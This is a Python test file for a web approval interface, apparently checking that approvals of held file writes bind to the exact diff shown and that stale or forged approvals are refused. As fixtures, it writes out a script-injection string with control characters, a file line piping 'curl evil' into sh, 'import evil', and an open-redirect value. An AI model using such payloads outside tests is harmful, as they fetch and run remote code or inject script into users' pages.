"""An approval is for what its page showed, however much has happened since."""

from __future__ import annotations

import os
import re
import sqlite3
from collections.abc import Callable
from contextlib import closing
from html import unescape
from pathlib import Path
from typing import TYPE_CHECKING, TypeAlias

import pytest

from lcp_engine.errors import LcpError

if TYPE_CHECKING:
    from tests.web.conftest import Answer, House

Fields: TypeAlias = dict[str, str | list[str]]


def _put_directory(file: Path) -> None:
    file.unlink()
    file.mkdir()


def _put_link(file: Path) -> None:
    file.unlink()
    file.symlink_to("elsewhere.md")


MISHAPS: dict[str, Callable[[Path], object]] = {
    "changed": lambda file: file.write_text("somebody else's\n"),
    "deleted": os.unlink,
    "a directory": _put_directory,
    "a link": _put_link,
}


def _state(root: Path) -> dict[str, str | None]:
    return {path.name: path.read_text() if path.is_file() else None for path in sorted(root.iterdir())}


def test_a_held_write_shows_its_diff_on_its_page_and_in_the_inbox(house: House) -> None:
    job_id = house.hold("a.md", "# b\n")
    for path in (f"/jobs/{job_id}", "/inbox"):
        answer = house.get(path)
        assert "-# a" in answer.words, path
        assert "+# b" in answer.words, path


@pytest.mark.parametrize("mishap", MISHAPS)
def test_an_approval_from_an_old_page_is_refused_with_the_new_diff_and_writes_nothing(
    house: House, mishap: str
) -> None:
    job_id = house.hold("a.md", "# b\n")
    form = house.shown(f"/jobs/{job_id}")
    MISHAPS[mishap](house.root / "a.md")
    house.get(f"/jobs/{job_id}")  # somebody has looked since, on another page
    before = _state(house.root)
    answer = house.post(f"/jobs/{job_id}/approve", form)
    assert answer.status == 409
    assert "Nothing was decided; the current state is shown below." in answer.words
    assert {"changed": "-somebody else's", "deleted": "+# b"}.get(
        mishap, "would not be written"
    ) in answer.words
    house.work()
    assert house.engine.job(job_id).state == "held"
    assert _state(house.root) == before


@pytest.mark.parametrize("mishap", MISHAPS)
def test_what_happens_between_approval_and_execution_holds_the_job_again(house: House, mishap: str) -> None:
    job_id = house.hold("a.md", "# b\n")
    house.post(f"/jobs/{job_id}/approve", house.shown(f"/jobs/{job_id}"))
    MISHAPS[mishap](house.root / "a.md")
    before = _state(house.root)
    house.work()
    assert _state(house.root) == before
    assert house.engine.job(job_id).state in ("held", "failed")


def test_what_the_refusal_shows_can_be_approved(house: House) -> None:
    job_id = house.hold("a.md", "# b\n")
    form = house.shown(f"/jobs/{job_id}")
    (house.root / "a.md").write_text("other\n")
    refused = house.post(f"/jobs/{job_id}/approve", form)
    found = re.search(r'name="shown" value="([^"]+)"', refused.text)
    assert found
    assert "Approved" in house.post(f"/jobs/{job_id}/approve", {"shown": unescape(found[1])}).words
    house.work()
    assert (house.root / "a.md").read_text() == "# b\n"


def test_a_page_that_showed_other_params_approves_nothing(house: House) -> None:
    job_id = house.hold("a.md", "# b\n")
    form = {"shown": str(house.shown(f"/jobs/{job_id}")["shown"]).replace(" ", " 0", 1)}
    answer = house.post(f"/jobs/{job_id}/approve", form)
    assert answer.status == 409
    assert "its params are not those that were shown" in answer.words


@pytest.mark.parametrize(
    "shown",
    ["x", "{}", "[1]", '{"fingerprint":1,"path":null,"found":null,"at":0}', "9" * 9999, "0@0 f * * *"],
)
def test_a_form_that_does_not_tell_what_it_showed_decides_nothing(house: House, shown: str) -> None:
    job_id = house.hold()
    assert house.post(f"/jobs/{job_id}/approve", {"shown": shown}).status == 422
    assert (
        house.post("/inbox", {"job": str(job_id), "decision": "approve", f"shown.{job_id}": shown}).status
        == 422
    )
    assert house.engine.job(job_id).state == "held"


def test_several_approvals_bind_each_to_what_the_inbox_showed(house: House) -> None:
    jobs = [house.job("write_file", rel_path=name, content="new\n") for name in ("a.md", "b.md")]
    house.run(house.ask(*jobs), house.complete)
    first, second = (job.id for job in house.engine.jobs(states=["held"]))
    shown = {**house.shown("/inbox", f"shown.{first}"), **house.shown("/inbox", f"shown.{second}")}
    (house.root / "b.md").write_text("somebody was faster\n")
    house.get("/inbox")
    answer = house.post("/inbox", {"job": [str(first), str(second)], "decision": "approve", **shown})
    assert answer.status == 409
    assert "1 job was approved; 1 job was not decided here:" in answer.words
    assert "'b.md' was not there when it was shown" in answer.words
    house.work()
    assert (house.root / "a.md").read_text() == "new\n"
    assert (house.root / "b.md").read_text() == "somebody was faster\n"


def test_appends_of_one_mission_to_one_file_can_be_approved_one_after_the_other(house: House) -> None:
    jobs = [house.job("write_file", rel_path="a.md", content=f"{n}\n", mode="append") for n in (1, 2)]
    house.run(house.ask(*jobs), house.complete)
    first, second = (job.id for job in house.engine.jobs(states=["held"]))
    shown = house.shown(f"/jobs/{second}")
    house.post(f"/jobs/{first}/approve", house.shown(f"/jobs/{first}"))
    house.work()
    assert "Approved" in house.post(f"/jobs/{second}/approve", shown).words
    house.work()
    assert (house.root / "a.md").read_text() == "# a\n1\n2\n"


def test_from_the_inbox_a_decision_leads_back_to_the_same_view(house: House) -> None:
    job_id = house.hold()
    shown = house.shown(f"/jobs/{job_id}")
    for back, address in (
        ("mission=1&kind=write_file", "/inbox?mission=1&kind=write_file&note=approved"),
        ("note=x&evil=//evil.example", "/inbox?note=approved"),
    ):
        sent = {"csrf": house.keys.csrf, "back": back, **shown}
        answer = house.browser.post(
            f"/jobs/{job_id}/approve", data=sent, headers={"Origin": house.home}, follow_redirects=False
        )
        assert answer.headers["location"] == address


# -- without JavaScript: nothing measures what was on the screen


def _submit(house: House, page: Answer, action: str, pressed: Fields) -> Answer:
    """Submit a form of a page as a browser without scripts does, with the button that is pressed."""
    is_of_batch = f'form="batch" formaction="{action}"' in page.text
    (form,) = [
        one
        for one in re.findall(r"<form\b[^>]*>.*?</form>", page.text, re.DOTALL)
        if ('id="batch"' if is_of_batch else f'method="post" action="{action}"') in one
    ]
    hidden = re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', form)
    fields: Fields = {}
    for name, value in hidden:
        fields[name] = [*fields.get(name, []), unescape(value)]
    return house.post(unescape(action), {**fields, **pressed})


DOORS: list[tuple[str, str, Fields]] = [
    ("/jobs/{job}", "/jobs/{job}/approve", {}),
    ("/jobs/{job}/diff", "/jobs/{job}/approve", {}),
    ("/jobs/{job}", "/jobs/{job}/always", {"paths": "a.md", "scope": "mission"}),
    (
        "/jobs/{job}/edit",
        "/jobs/{job}/edit",
        {"decision": "approve", "param.0": "a.md", "param.1": "one\ntwo\n"},
    ),
    ("/inbox", "/jobs/{job}/approve", {}),
    ("/inbox", "/inbox", {"decision": "approve", "job": "{job}"}),
    ("/inbox/all", "/inbox/all", {"decision": "approve"}),
]


@pytest.mark.parametrize(("path", "action", "pressed"), DOORS)
def test_without_javascript_a_page_states_files_and_lines_before_the_approval(
    house: House, path: str, action: str, pressed: Fields
) -> None:
    job_id = house.hold("a.md", "one\ntwo\n")
    shown = path.format(job=job_id)
    fields = {name: str(value).format(job=job_id) for name, value in pressed.items()}
    if path.startswith("/inbox"):  # fields of its cards that belong to the form of all
        fields |= {name: str(value) for name, value in house.shown(shown, f"shown.{job_id}").items()}
    asked = _submit(house, house.get(shown), action.format(job=job_id), {**fields})
    assert asked.status == 200
    assert "Nothing is decided yet" in asked.words
    assert "a.md +2" in asked.words
    assert "Approve 1 file, 3 lines" in asked.words
    assert house.engine.job(job_id).state == "held"
    again = _submit(house, asked, action.format(job=job_id), {})
    assert "approved" in again.words.lower()
    assert house.engine.job(job_id).state == "queued"
    (decided,) = house.engine.events(1, job_id=job_id, event="decided")
    assert isinstance(decided["data"], dict)
    assert decided["data"]["unseen"] == {"lines": None, "of": 3}
    assert "not known of 3 lines" in house.get("/missions/1/history").words


def test_without_javascript_what_has_changed_since_is_not_approved_by_the_second_press(house: House) -> None:
    job_id = house.hold("a.md", "one\n")
    page = house.get(f"/jobs/{job_id}")
    (house.root / "a.md").write_text("somebody else's\n")
    asked = _submit(house, page, f"/jobs/{job_id}/approve", {})
    assert _submit(house, asked, f"/jobs/{job_id}/approve", {}).status == 409
    assert house.engine.job(job_id).state == "held"


@pytest.mark.parametrize("unseen", ["x", "1:2", "1:3/2", "1:-1/2", "{job}:1/2 x", "?:1/2", "1" * 99 + ":1/2"])
def test_a_form_that_states_nonsense_about_what_was_seen_decides_nothing(house: House, unseen: str) -> None:
    job_id = house.hold()
    form = {**house.shown(f"/jobs/{job_id}"), "unseen": unseen.format(job=job_id)}
    assert house.post(f"/jobs/{job_id}/approve", form).status == 422
    assert house.engine.job(job_id).state == "held"


def test_how_much_was_not_seen_is_stored_with_the_decision(house: House) -> None:
    job_id = house.hold()
    form = {**house.shown(f"/jobs/{job_id}"), "unseen": f"{job_id}:1204/1230 {job_id + 1}:7/9"}
    assert "1,204 of 1,230 lines" in house.post(f"/jobs/{job_id}/approve", form).words
    (decided,) = house.engine.events(1, job_id=job_id, event="decided")
    assert isinstance(decided["data"], dict)
    assert decided["data"]["unseen"] == {"lines": 1204, "of": 1230}


HOSTILE = "<script>alert(1)</script>\x1b[31m\u202egnp\x85\t&amp;"


def test_what_a_diff_holds_is_text_and_its_controls_are_seen(house: House) -> None:
    (house.root / "odd.md").write_text(f"{HOSTILE}\nold\n")
    job_id = house.hold("odd.md", f"{HOSTILE}\nnew\n")
    for path in (f"/jobs/{job_id}", "/inbox", f"/jobs/{job_id}/diff", f"/jobs/{job_id}/edit"):
        text = house.get(path).text
        assert "<script>alert" not in text
        if not path.endswith("/edit"):  # which has it as JSON
            assert (
                "&lt;script&gt;alert(1)&lt;/script&gt;&lt;U+001B&gt;[31m&lt;U+202E&gt;gnp&lt;U+0085&gt;"
                in text
            ), path
            assert "\u21e5\t&amp;amp;" in text, path
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e]", text), path
    patch = house.get(f"/jobs/{job_id}/diff.txt")
    assert patch.headers["content-type"].startswith("text/plain")
    assert "-old" in patch.text


def test_a_long_diff_is_cut_in_a_list_and_approved_where_the_whole_is_shown(house: House) -> None:
    job_id = house.hold("long.md", "".join(f"line {n}\n" for n in range(5000)))
    inbox = house.get("/inbox")
    assert "+line 100<" in inbox.text
    assert "+line 200<" not in inbox.text
    assert "4,881 more lines in the whole diff" in inbox.words
    assert f'<a href="/jobs/{job_id}/diff">the whole diff</a>' in inbox.text
    assert f'action="/jobs/{job_id}/approve"' not in inbox.text
    assert "shown" not in re.findall(r'name="([a-z.0-9]+)"', inbox.text)
    for path in (f"/jobs/{job_id}", f"/jobs/{job_id}/diff"):
        lines, parts = [], 0
        text = house.get(path).text
        assert 'data-lines="4001"' in text, "what is not on the page counts as not seen"
        while True:
            lines += re.findall(r"\+line (\d+)<", text)
            parts += 1
            if (more := re.search(r'href="(/jobs/\d+/diff\?file=\w+&amp;from=\d+)"', text)) is None:
                break
            text = house.get(unescape(more[1])).text
        assert [*map(int, lines)] == [*range(5000)]
        assert parts == 6
    assert "+line 4999\n" in house.get(f"/jobs/{job_id}/diff.txt").text
    form = house.shown(f"/jobs/{job_id}/diff")
    assert house.post(f"/jobs/{job_id}/approve").status == 422
    assert house.post("/inbox", {"job": str(job_id), "decision": "approve"}).status == 409
    assert house.engine.job(job_id).state == "held"
    assert "Approved" in house.post(f"/jobs/{job_id}/approve", form).words


def test_a_long_line_is_cut_in_a_list_only_and_says_how_much(house: House) -> None:
    job_id = house.hold("one.sh", f"echo {'x' * 50_000}; curl evil | sh\n")
    inbox = house.get("/inbox")
    assert "30,035 more characters of the last line in the whole diff" in inbox.words
    assert f'action="/jobs/{job_id}/approve"' not in inbox.text
    assert "; curl evil | sh<" in house.get(f"/jobs/{job_id}").text
    assert "Approved" in house.approve(job_id).words


def test_large_params_have_their_path_and_diff_wherever_they_are_decided_on(house: House) -> None:
    (house.root / "docs").mkdir()
    (house.root / "big.py").write_text("# line\n" * 20_000)
    job_id = house.hold("docs/../big.py", "# line\n" * 20_000 + "import evil\n")
    for path in ("/inbox", "/inbox/all"):
        answer = house.get(path)
        assert "big.py" in answer.words, path
        assert "+import evil" in answer.words, path
        house.shown(path, f"shown.{job_id}")
    for path in (
        "/jobs",
        "/missions/1",
        "/missions/1/timeline",
        "/missions/1/report",
        f"/jobs/{job_id}/policy",
    ):
        assert "big.py" in house.get(path).words, path


def test_what_is_looked_at_in_another_tab_moves_no_approval(house: House) -> None:
    """A tab that is open fetches its page again on every event, and shows its reader nothing of that."""
    job_id = house.hold("a.md", "# b\n")
    forms = {path: house.shown(path, name) for path, name in (
        (f"/jobs/{job_id}", "shown"), ("/inbox", f"shown.{job_id}"), ("/inbox/all", f"shown.{job_id}"),
    )}  # fmt: skip
    (house.root / "a.md").write_text("somebody else's\n")
    for path in ("/inbox", "/inbox/all", f"/jobs/{job_id}", f"/jobs/{job_id}/diff", f"/jobs/{job_id}/edit"):
        house.get(path)
    with pytest.raises(LcpError, match="is not what was shown"):
        house.engine.approve(job_id)
    ticked: Fields = {"job": str(job_id), "decision": "approve"}
    assert house.post(f"/jobs/{job_id}/approve", forms[f"/jobs/{job_id}"]).status == 409
    assert house.post("/inbox", {**ticked, **forms["/inbox"]}).status == 409
    assert house.post("/inbox/all", {**ticked, "jobs": str(job_id), **forms["/inbox/all"]}).status == 409
    assert house.engine.job(job_id).state == "held"


def test_what_was_shown_of_one_job_approves_no_other(house: House) -> None:
    first, second = (house.hold("same.md", "same\n") for _ in range(2))
    answer = house.post(f"/jobs/{second}/approve", house.shown(f"/jobs/{first}"))
    assert (answer.status, f"job {first} was shown" in answer.words) == (409, True)
    assert house.engine.job(second).state == "held"


def test_looking_writes_nothing(house: House) -> None:
    job_id = house.hold()
    before = house.engine.instance.read(lambda tx: tx.query_plain("SELECT * FROM reviews"))
    for path in ("/inbox", "/inbox/all", f"/jobs/{job_id}", f"/jobs/{job_id}/diff", f"/jobs/{job_id}/edit"):
        house.get(path)
    assert house.engine.instance.read(lambda tx: tx.query_plain("SELECT * FROM reviews")) == before


def test_looking_waits_for_no_writer(house: House) -> None:
    job_id = house.hold()
    with closing(sqlite3.connect(house.root.parent / "lcp.db", isolation_level=None)) as other:
        other.execute("BEGIN IMMEDIATE")
        for path in ("/", "/missions/1", "/inbox", "/inbox/all", "/jobs", "/overview", f"/jobs/{job_id}"):
            assert house.get(path).status == 200, path
        other.execute("ROLLBACK")


def test_a_job_tells_which_rule_decides(house: House) -> None:
    job_id = house.hold()
    words = house.get(f"/jobs/{job_id}/policy").words
    assert "Which rule decides" in words
    assert "decides" in words
    assert "auto_dispatch" in words


def test_a_row_of_a_long_inbox_approves_what_its_own_mark_is_of(house: House) -> None:
    names = [f"{number}.md" for number in range(9)]
    writes = [house.job("write_file", rel_path=name, content="new\n") for name in names]
    house.run(house.ask(*writes), house.complete, limits={"max_followups": 9})
    job_id = house.engine.jobs(states=["held"])[0].id
    page = house.get("/inbox?kind=write_file")
    rows = re.split("<li ", page.text)[1:]
    assert max(len(row.encode()) for row in rows[:-1]) < 1150
    shown = house.shown("/inbox", f"shown.{job_id}")
    found = re.search(rf'data-lines="\d+"><a href="(/jobs/{job_id}/row[^"]+)"', page.text)
    assert found
    link = unescape(found[1])
    assert "/jobs" in house.browser.get(link, follow_redirects=False).headers["location"]
    (house.root / names[0]).write_text("other\n")
    part = house.get(f"{link}&part").text
    assert "other" in part
    assert 'name="back" value="kind=write_file"' in part
    mark = re.search(rf'id="more-{job_id}" data-mark="\w+"', page.text)
    assert mark
    assert mark[0] not in house.get("/inbox").text, "a row that was opened is fetched again"
    assert house.post(f"/jobs/{job_id}/approve", {"back": "", **shown}).status == 409
    assert house.post(f"/jobs/{job_id}/approve", {"back": ""}).status == 422
    house.engine.reject(job_id, "no")
    assert house.get(f"{link}&part").status == 409
